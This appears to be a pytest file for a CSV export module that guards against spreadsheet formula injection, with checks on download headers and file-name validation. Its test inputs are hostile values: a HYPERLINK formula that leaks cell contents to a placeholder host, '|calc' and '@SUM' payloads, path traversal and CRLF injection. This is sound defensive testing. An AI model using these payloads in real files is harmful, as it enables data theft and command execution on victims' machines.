"""Tables that leave as files: nothing in them runs, and nothing is lost of them."""

import csv
import io

import pytest
from hypothesis import given
from hypothesis import strategies as st

from caselink.csv_export import MARK, cell, csv_response


def read(response) -> list[list[str]]:
    text = b"".join(response.streaming_content).decode()
    assert text.startswith(MARK)
    return list(csv.reader(io.StringIO(text.removeprefix(MARK), newline="")))


@pytest.mark.parametrize(
    "text",
    [
        '=HYPERLINK("https://x.example/?"&A1,"open")',
        "+44 7700",
        "-2+3",
        "@SUM(A1)",
        "\t=1",
        "\r=1",
        "\n=1",
        " =1",
        "\u00a0=1",
        "\ufeff=1",
        "\uff1d1+1",
        "'=1",
        '"=1',
        "\tplain",
        "|calc",
    ],
)
def test_what_a_spreadsheet_would_run_is_text(text):
    assert cell(text) == f"'{text}"


@pytest.mark.parametrize("value", [0, -3, -2.5, "2026-11-28", "Thorne", "O'Neill", "", "a=b", "Q&A", "-12"])
def test_numbers_and_ordinary_text_stay_as_they_are(value):
    assert cell(value) == str(value)


def test_nothing_is_an_empty_cell():
    assert cell(None) == ""


@given(st.lists(st.lists(st.text(st.characters(codec="utf-8", exclude_characters="\x00")), min_size=2)))
def test_no_value_begins_another_cell_or_line(rows):
    found = read(csv_response(name="looks", header=["one", "=two"], rows=rows))
    assert found == [["one", "'=two"], *([cell(value) for value in row] for row in rows)]


def test_it_is_a_file_that_no_browser_opens_or_keeps():
    response = csv_response(name="who-looked", header=["when"], rows=[])
    assert response["Content-Disposition"] == 'attachment; filename="who-looked.csv"'
    assert response["Content-Type"] == "text/csv; charset=utf-8"
    assert response["X-Content-Type-Options"] == "nosniff"
    assert response["Cache-Control"] == "no-store"


@pytest.mark.parametrize("name", ["Ines Thorne", "../etc", 'a"b', "", "a.csv", "a\r\nb"])
def test_the_name_of_a_file_says_nothing_of_anybody(name):
    with pytest.raises(ValueError, match="name of a file"):
        csv_response(name=name, header=[], rows=[])
